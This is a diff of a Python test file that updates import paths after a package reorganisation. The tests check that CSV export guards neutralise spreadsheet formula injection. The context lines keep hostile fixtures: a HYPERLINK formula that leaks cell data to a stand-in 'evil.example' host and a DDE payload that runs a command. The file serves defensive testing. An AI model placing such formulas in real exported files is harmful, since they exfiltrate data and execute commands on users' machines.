@@ -21,19 +21,19 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from services import csv_safety
-from services.clip_models import ClipSpec
-from services.compare import import_categorized_csv, label_counts
-from services.compare_report import write_tables
-from services.csv_safety import FORMULA_START, guard_cell, unguard_cell
-from services.ocr import append_log
-from services.settings import load_settings
-from services.workspace import Workspace
+from services.core import csv_safety
+from services.core.csv_safety import FORMULA_START, guard_cell, unguard_cell
+from services.core.settings import load_settings
+from services.core.workspace import Workspace
+from services.io.clip_models import ClipSpec
+from services.stages.compare.label_sets import import_categorized_csv, label_counts
+from services.stages.compare.report import write_tables
+from services.stages.ocr.stage import append_log
 from tests.conftest import ROOT, write_csv
+from tests.support.describe_data import gemini_env
 from tests.support.fake_gemini import FakeGemini, make_colour_png
 from tests.support.image_server import ImageServer, make_jpeg
-from tests.test_describe import gemini_env
-from tests.test_embed_train import png
+from tests.support.tagged_images import png
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
 DDE = "+cmd|' /C calc'!A0"
@@ -238,7 +238,7 @@ def test_compare_tables_guard_hostile_categories_and_set_names(tmp_path: Path):
 def test_write_tables_service_call_honours_guard(tmp_path: Path, ws: Workspace):
     a = import_categorized_csv(ws, write_csv(tmp_path / "a.csv", ["image_name", "categories"], [["x", AT_SUM]]))
     b = import_categorized_csv(ws, write_csv(tmp_path / "b.csv", ["image_name", "categories"], [["y", "ok"]]))
-    from services.compare import compare_sets
+    from services.stages.compare.label_sets import compare_sets
 
     result = compare_sets(ws, a, b)
     stats, _ = write_tables(result, tmp_path / "g")
@@ -260,7 +260,7 @@ def test_ocr_log_guards_readings_and_keeps_counting(tmp_path: Path):
 
 def test_ocr_results_download_and_ground_truth_round_trip():
     """The OCR page's results CSV (csv_safety.to_bytes) is guarded and reads back as ground truth unchanged."""
-    from services.ocr_accuracy import read_ground_truth
+    from services.stages.ocr.accuracy import read_ground_truth
 
     data = csv_safety.to_bytes(["image", "code"], [["@a.png", "=1+1"], ["b.png", "-5"]])
     assert_no_formula(list(csv.reader(io.StringIO(data.decode()))))
